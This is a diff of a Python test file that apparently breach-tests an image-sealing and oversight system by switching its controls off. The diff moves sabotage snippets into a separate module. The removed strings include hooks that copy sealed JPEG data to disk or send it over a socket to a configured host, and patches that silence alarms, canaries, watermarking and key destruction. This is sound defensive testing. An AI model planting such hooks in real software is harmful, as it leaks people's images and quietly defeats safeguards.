@@ -5,70 +5,48 @@ One stage, in the order of the acts. What is switched off is put back after each
 
 import re
 from collections.abc import Iterator
-from contextlib import contextmanager
-from dataclasses import replace
 from pathlib import Path
 
 import numpy as np
 import pytest
 from breachparts import SABOTAGED, is_broken, play, small_stage
-from sqlalchemy import Connection
+from sabotages import (
+    AT_THE_DOOR,
+    KEPT_KEYS,
+    NO_ALARM,
+    NO_CANARY,
+    NO_MARK,
+    NO_METER,
+    NO_STANDING,
+    NO_SUSPENDED_LANE,
+    OPEN_TO_VENDORS,
+    SEARCHING,
+    SIGN_ANYTHING,
+    SPOOL,
+    UPLOAD,
+    is_suspended,
+    keyroom_with,
+    picture_of,
+    plain,
+    put_in_force,
+    put_out,
+)
 
 from wayseal.assess.egress_policy import DAEMON, RULES, guard_files, plan_guard, write_guard
 from wayseal.export.mark import measure_psnr
 from wayseal.export.marklane import LaneReading
-from wayseal.flow.oversee import standing
 from wayseal.ledger.log import Ledger
-from wayseal.model.border import PlainImage
 from wayseal.model.clock import utc_now
 from wayseal.model.errors import Refused
-from wayseal.model.ids import new_ulid
 from wayseal.retention.residue import Residue
 from wayseal.seal.keys import EpochVault, FileKeeper
 from wayseal.seal.keys.vault import seed_context
-from wayseal.station.keyroom_server import renew_trust
 from wayseal.station.overseer import reinstate, suspend
 from wayseal.station.settings_oversight import IncidentSettings
-from wayseal.store.oversight.assessments import DrawnAssessment
 from wayseal.testing.breach import ACTS, Outcome, Seams, Stage, at_centre, history
-from wayseal.testing.breach.oversight import BOSS, INSPECTOR, TECHNICIAN, VENDOR, assess_lane
+from wayseal.testing.breach.oversight import BOSS, INSPECTOR, VENDOR, assess_lane
 from wayseal.testing.breach.ports import list_ways_in
-from wayseal.vision.picture import encode_picture, read_picture
-
-SEAL = "import os, socket, itertools, wayseal.seal.device as d\n_seal = d.SealChain.seal\n_n = itertools.count()\n"
-HOOKED = "def seal(self, body, **more):\n    if body[:3] == bytes.fromhex('ffd8ff'):\n        leak(body)\n    return _seal(self, body, **more)\nd.SealChain.seal = seal\n"
-SPOOL = f"{SEAL}def leak(body):\n    open(os.environ['SPOOL'] + '/' + str(next(_n)) + '.tmp', 'wb').write(body)\n{HOOKED}"
-UPLOAD = (
-    f"{SEAL}def leak(body):\n    host, port = os.environ['CENTRE'].rsplit(':', 1)\n"
-    f"    with socket.create_connection((host, int(port))) as line:\n        line.sendall(body)\n{HOOKED}"
-)
-NO_MARK = "import wayseal.flow.marking as m\nm.mark_at_lane = lambda key: (lambda data, record: data)\n"
-NO_CANARY = "import wayseal.flow.canary as c\nc.CanaryBook.is_canary = lambda self, record: False\n"
-NO_ALARM = (
-    "import wayseal.flow.guard as g\n_init = g.Guard.__init__\n"
-    "def init(self, meter, canaries, tell, shared_factor):\n"
-    "    def quiet(entries):\n        kept = [one for one in entries if one['type'] != 'alarm']\n        return tell(kept) if kept else None\n"
-    "    _init(self, meter, canaries, quiet, shared_factor)\ng.Guard.__init__ = init\n"
-)
-NO_METER = "import wayseal.flow.meter as m\nm.Meter.take = lambda self, *_, **__: []\n"
-NO_STANDING = "import wayseal.flow.standing as s\ns.Standings._apply_status = lambda self, *_: None\n"
-NO_SUSPENDED_LANE = "import wayseal.flow.oversee.fitness as f\nf.is_suspended = lambda *_: False\n"
-KEPT_KEYS = (
-    "import wayseal.seal.keys.vault as v\nfrom wayseal.model.clock import utc_now\n"
-    "v.EpochVault.destroy = lambda self, epoch: v.Tombstone(epoch, v.sha256(self.read_pair(epoch)[0]).hex(), utc_now())\n"
-)
-AT_THE_DOOR = (
-    "ask-for-pictures", "keep-plates", "post-exported", "post-viewed", "post-taken", "work-on", "come-back", "restore-backup",
-    "take-drawings", "raid-running-centre",
-)  # fmt: skip
-SIGN_ANYTHING = (
-    "import wayseal.ledger.witness as w\n"
-    "w.Witness._judge = lambda self, submission: self._cosign(submission, 1)\n"
-)
-SEARCHING = (
-    "look-at-lane-disk", "copy-lane-disk", "tap-the-wire", "keep-plates", "take-centre-disk", "restore-backup", "take-drawings",
-)  # fmt: skip
-OPEN_TO_VENDORS = 'permit (principal in Role::"vendor", action == Action::"open", resource);'
+from wayseal.vision.picture import read_picture
 
 
 @pytest.fixture(scope="module")
@@ -76,21 +54,6 @@ def stage(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
     """A stage for all of them."""
     with small_stage(tmp_path_factory.mktemp("sabotage"), SABOTAGED) as opened:
         yield opened
-
-
-@contextmanager
-def keyroom_with(stage: Stage, code: str) -> Iterator[None]:
-    """Let the keyroom's process run with a control switched off, and start a sound one afterwards."""
-    stage.start_keyroom(code)
-    try:
-        yield
-    finally:
-        stage.start_keyroom()
-
-
-def plain(_: object, picture: bytes, *__: object) -> PlainImage:
-    """A mark that is none: the picture is encoded again, and that is all."""
-    return encode_picture(read_picture(picture), quality=92)
 
 
 def test_nothing_is_swept(stage: Stage, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -217,13 +180,6 @@ def test_unmarked(stage: Stage, monkeypatch: pytest.MonkeyPatch, act: str, mark:
     assert is_broken(play(stage, act), "not-traced")
 
 
-def picture_of() -> bytes:
-    """A picture of nobody."""
-    from wayseal.testing.breach.cast import paint_person
-
-    return encode_picture(paint_person((1, 2, 3)), quality=92).data
-
-
 def test_vendor_permitted(stage: Stage) -> None:
     """Rules that permit a vendor give pictures to its technician."""
     file = stage.home / "policy" / "site.cedar"
@@ -234,15 +190,6 @@ def test_vendor_permitted(stage: Stage) -> None:
     assert is_broken(play(stage, "ask-for-pictures"), "something-was-given")
     put_in_force(stage, rules)
     assert play(stage, "ask-for-pictures").outcome is Outcome.BLOCKED
-
-
-def put_in_force(stage: Stage, rules: str) -> None:
-    """Change the site's rules as an administrator would, with the keyroom stopped."""
-    (stage.home / "policy" / "site.cedar").write_text(rules, encoding="utf-8")
-    stage.running.pop("keyroom").end()
-    renew_trust(stage.home, stage.secrets["keyroom"].read_bytes(), stage.site.settings, utc_now)
-    stage.start_keyroom()
-    stage.site.__dict__.pop("policy", None)
 
 
 def test_passphrases_on_the_disk(stage: Stage) -> None:
@@ -380,28 +327,6 @@ def test_back_without(stage: Stage, monkeypatch: pytest.MonkeyPatch, control: st
     found = play(stage, "come-back")
     assert is_broken(found, "came-back")
     assert found.evidence["came_back_by"] == [way]
-
-
-def put_out(monkeypatch: pytest.MonkeyPatch, stage: Stage, control: str) -> None:
-    """Switch one of the reinstatement's questions off."""
-    room = "wayseal.flow.oversee.standing"
-    if control == "_fresh_assessment":
-        monkeypatch.setattr(f"{room}.{control}", lambda *_: new_ulid(stage.site.clock()))
-    elif control == "_check_approvers":
-        monkeypatch.setattr(f"{room}.{control}", lambda *_: None)
-    else:  # a full assessment counts, whatever came of it
-        newest = standing.latest_full
-
-        def pass_all(rows: Connection, device: str) -> DrawnAssessment | None:
-            found = newest(rows, device)
-            return None if found is None else replace(found, passed=True)
-
-        monkeypatch.setattr(f"{room}.latest_full", pass_all)
-
-
-def is_suspended(stage: Stage) -> bool:
-    """Say whether the vendor is suspended."""
-    return stage.site.principal(TECHNICIAN, "officer").suspended
 
 
 def test_no_witnesses(stage: Stage) -> None:
